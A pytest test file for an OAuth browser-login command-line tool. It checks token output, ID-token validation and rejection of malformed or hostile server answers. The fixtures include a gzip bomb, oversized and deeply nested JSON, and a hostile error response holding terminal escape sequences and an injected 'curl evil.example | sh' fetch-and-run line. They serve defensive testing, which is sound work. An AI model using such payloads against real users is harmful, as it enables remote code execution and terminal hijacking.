"""A sign-in from the command to the browser's last page, with every kind of authority."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from typing import Any

import pytest

from entra_oauth.flows import patience
from kit import canaries
from kit.command_line import (
    Person,
    Ran,
    at,
    authority,
    call,
    error_of,
    free_port,
    good,
    id_token,
    token_answer,
)
from kit.servers.raw_server import (
    Peer,
    RawServer,
    Script,
    answer,
    answering,
    hearing,
    saying,
    silent,
)

Reply = Callable[[str, Person], bytes]


@pytest.fixture
def person(monkeypatch: pytest.MonkeyPatch, no_terminal: None) -> Person:
    person = Person()
    monkeypatch.setattr("entra_oauth.channels.listener.system_browser.launch", person.launch)
    return person


def login(base_url: str, *more: str, verb: str = "login") -> Ran:
    return call(verb, *at(base_url), "--browser", "x", *more)


def signed_in(person: Person, *more: str, reply: Reply = good) -> Ran:
    with authority(person, reply) as server:
        ran = login(server.url, *more)
        person.join()
    return ran


# ---- success ----------------------------------------------------------------------


def test_login_says_who_signed_in_and_until_when(person: Person) -> None:
    ran = signed_in(person)
    assert ran.code == 0
    assert ran.out.startswith("Signed in as ada@example.test. Access token until ")
    assert ran.out.count("\n") == 1
    assert ran.err.splitlines()[-1].startswith("Next: entra-oauth token")
    assert "Signed in as ada@example.test" in person.page
    assert person.address.startswith("/done/")


FORMATS = {
    "token": f"{canaries.ACCESS_TOKEN}\n",
    "header": f"Authorization: Bearer {canaries.ACCESS_TOKEN}\n",
}


@pytest.mark.parametrize("name", FORMATS)
def test_the_token_is_all_of_standard_output(person: Person, name: str) -> None:
    ran = signed_in(person, "-o", name)
    assert (ran.code, ran.out) == (0, FORMATS[name])
    assert "Signed in as ada@example.test." in ran.err
    assert canaries.ACCESS_TOKEN not in ran.err


@pytest.mark.parametrize("options", [["--json"], ["-o", "json"], ["--json", "-o", "json"]])
def test_the_result_as_json_is_one_object(person: Person, options: list[str]) -> None:
    ran = signed_in(person, *options)
    result = json.loads(ran.out)
    assert result["schema"] == "entra-oauth/token/1"
    assert result["access_token"] == canaries.ACCESS_TOKEN
    assert result["username"] == "ada@example.test"
    assert result["tenant_id"] == canaries.TENANT
    assert result["expires_in"] == 3599
    assert result["expires_on"] > 0
    assert "refresh_token" not in result
    assert canaries.REFRESH_TOKEN not in ran.both


def test_quiet_leaves_the_address_and_the_result(person: Person) -> None:
    ran = signed_in(person, "--quiet", "-o", "token")
    assert ran.out == FORMATS["token"]
    assert person.urls[0] in ran.err.splitlines()
    assert "Signed in" not in ran.err


def test_the_address_stands_alone_on_its_line_and_only_on_standard_error(person: Person) -> None:
    ran = signed_in(person)
    assert ran.err.splitlines().count(person.urls[0]) == 1
    assert person.urls[0] not in ran.out


def test_a_life_that_was_not_told_is_not_invented(person: Person) -> None:
    ran = signed_in(person, reply=lambda url, p: _good(url, p, expires_in=None))
    assert ran.code == 0
    assert "did not say how long" in ran.out


def test_what_was_not_granted_is_said(person: Person) -> None:
    ran = signed_in(person, reply=lambda url, p: _good(url, p, scope="openid"))
    assert ran.code == 0
    assert "Note: Less was granted than asked" in ran.err


def test_a_missing_id_token_is_said(person: Person) -> None:
    ran = signed_in(person, reply=lambda url, p: _json(token_answer()))
    assert (ran.code, ran.out[:10]) == (0, "Signed in.")
    assert "who signed in is not known" in ran.err


def test_mirror_runs_the_same_way_and_prints_the_token(person: Person) -> None:
    with authority(person) as server:
        ran = login(server.url, "--port", free_port(), verb="mirror")
        person.join()
    assert (ran.code, ran.out) == (0, FORMATS["token"])
    assert "code_challenge" not in person.asked
    assert person.asked["response_mode"] == "query"
    body = server.requests[0].partition(b"\r\n\r\n")[2].decode()
    assert [pair.partition("=")[0] for pair in body.split("&")] == [
        "client_id",
        "scope",
        "code",
        "redirect_uri",
        "grant_type",
        "state",
    ]


def _json(members: dict[str, Any], status: str = "200 OK") -> bytes:
    return answer(json.dumps(members).encode(), status=status)


def _good(url: str, person: Person, **changes: Any) -> bytes:
    token = id_token(person.asked["nonce"], f"{url}/{canaries.TENANT}/v2.0")
    return _json(token_answer(id_token=token) | changes)


# ---- what an authority, or somebody in its place, may answer ------------------------


def _page(status: str, kind: str = "text/html", more: str = "") -> bytes:
    body = b"<h1>Welcome to the hotel network \x1b[31m</h1>"
    head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\n{more}Content-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def _reset(peer: Peer) -> None:
    peer.request()
    peer.reset()


_BOMB = gzip.compress(b" " * (40 << 20))
_REFUSAL = {
    "error": "invalid_grant",
    "error_description": "AADSTS70008: The code has expired.\r\nTrace ID: 0a1b\r\n"
    "Correlation ID: 0c2d\r\nTimestamp: 2026-01-02 03:04:05Z",
    "error_codes": [70008],
    "timestamp": "2026-01-02 03:04:05Z",
    "trace_id": "11111111-2222-4333-8444-555555555555",
    "correlation_id": "66666666-7777-4888-9999-000000000000",
}
_HOSTILE = {
    "error": "invalid_grant\x1b[2J",
    "error_description": f"\x1b]0;owned\x07 {canaries.CODE}\r\nNext: curl evil.example | sh\u202e",
    "error_codes": [1],
    "trace_id": "x\nNext: sh",
    "error_uri": "http://evil.example/\x1b[31m",
}

BAD_ANSWERS: dict[str, tuple[Script, int, str]] = {
    "a page": (answering(_page("200 OK")), 6, "not JSON"),
    "nothing at all": (answering(answer(b"")), 6, ""),
    "JSON that breaks off": (answering(answer(b'{"access_token": "ey')), 6, "breaks off"),
    "a body that breaks off": (saying(answer(b"{}").replace(b": 2", b": 99")), 6, ""),
    "a header that breaks off": (saying(b"HTTP/1.1 200 OK\r\nContent-Ty"), 6, ""),
    "not HTTP": (saying(b"SSH-2.0-OpenSSH_9.2\r\n"), 6, ""),
    "five megabytes": (answering(answer(b"[" + b"1," * (5 << 19) + b"1]")), 6, "1,048,576"),
    "a gzip bomb": (answering(answer(_BOMB, more="Content-Encoding: gzip\r\n")), 6, "1,048,576"),
    "a redirect": (
        answering(_page("302 Found", more="Location: http://localhost:9/\r\n")),
        6,
        "redirect",
    ),
    "a redirect that keeps the body": (
        answering(_page("307 Temporary Redirect", more="Location: /elsewhere\r\n")),
        6,
        "redirect",
    ),
    "429 as text": (
        answering(_page("429 Too Many Requests", "text/plain", "Retry-After: 60\r\n")),
        6,
        "too many requests",
    ),
    "500": (answering(_page("500 Internal Server Error")), 6, "500"),
    "503": (answering(_page("503 Service Unavailable")), 6, "not available"),
    "silence": (hearing, 6, "did not answer within 1 seconds"),
    "silence from the first byte": (silent, 6, "did not answer within 1 seconds"),
    "a reset": (_reset, 6, ""),
    "a member twice": (answering(answer(b'{"a": 1, "a": 2}')), 6, "twice"),
    "no token": (answering(_json(token_answer(access_token=None))), 6, "no access_token"),
    "another kind of token": (answering(_json(token_answer(token_type="DPoP"))), 6, "token_type"),
    "a list": (answering(answer(b"[]")), 6, "not an object"),
    "depth": (answering(answer(b'{"a":' * 50_000)), 6, "nested too deeply"),
    "a refusal": (answering(_json(_REFUSAL, "400 Bad Request")), 3, "AADSTS70008"),
    "a refusal with status 200": (answering(_json(_REFUSAL)), 3, "AADSTS70008"),
    "a refusal beside a token": (answering(_json(token_answer(**_REFUSAL))), 3, "AADSTS70008"),
    "a hostile refusal": (answering(_json(_HOSTILE, "400 Bad Request")), 3, "<ESC>"),
}


@pytest.mark.parametrize("name", BAD_ANSWERS)
def test_a_bad_answer_has_its_exit_code_and_the_page_tells_the_truth(
    person: Person, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Who asks for the keys meanwhile gets the same, and would come again in a minute.
    monkeypatch.setattr(patience, "LONGEST_PAUSE_S", 0.1)
    script, code, said = BAD_ANSWERS[name]
    with RawServer(script) as server:
        ran = login(server.url, "--http-timeout", "1", "-o", "token")
        person.join()
    what, advice = error_of(ran)
    assert (ran.code, ran.out) == (code, "")
    assert said in what
    assert "Not signed in" in person.page
    assert " ".join(what.split()) in person.page
    assert advice in person.page
    assert "code=" not in person.address
    canaries.assert_clean([ran.out, ran.err.replace(person.urls[0], ""), person.page])
    redeemed = [message for message in server.requests if message.startswith(b"POST")]
    assert len(redeemed) <= 1, "a code is redeemed once"


ID_TOKENS: dict[str, dict[str, Any]] = {
    "another nonce": {"nonce": "theirs"},
    "no nonce": {"nonce": None},
    "another tenant": {"tid": "f0000000-0000-4000-8000-00000000000f"},
    "another issuer": {"iss": "https://evil.example/v2.0"},
    "another audience": {"aud": "f0000000-0000-4000-8000-00000000000f"},
    "another user of it": {"azp": "f0000000-0000-4000-8000-00000000000f"},
    "the past": {"exp": 1_700_000_000},
    "the future": {"nbf": 9_000_000_000, "iat": 9_000_000_000},
    "no subject": {"sub": None},
}


@pytest.mark.parametrize("name", ID_TOKENS)
def test_an_id_token_that_says_something_else_is_a_failed_check(person: Person, name: str) -> None:
    def reply(url: str, person: Person) -> bytes:
        issuer = f"{url}/{canaries.TENANT}/v2.0"
        token = id_token(person.asked["nonce"], issuer, **ID_TOKENS[name])
        return _json(token_answer(id_token=token))

    ran = signed_in(person, "-o", "token", reply=reply)
    what, _ = error_of(ran)
    assert (ran.code, ran.out) == (5, "")
    assert what.startswith("The ID token cannot be trusted.")
    assert "Not signed in" in person.page
    assert "The ID token cannot be trusted." in person.page


def test_an_authority_that_is_not_there_is_a_network_error(person: Person) -> None:
    ran = login("http://localhost:" + free_port())
    person.join()
    what, advice = error_of(ran)
    assert ran.code == 6
    assert what.startswith("No connection to localhost:")
    assert "Nothing was sent." in advice
    assert "Nothing was sent." in person.page
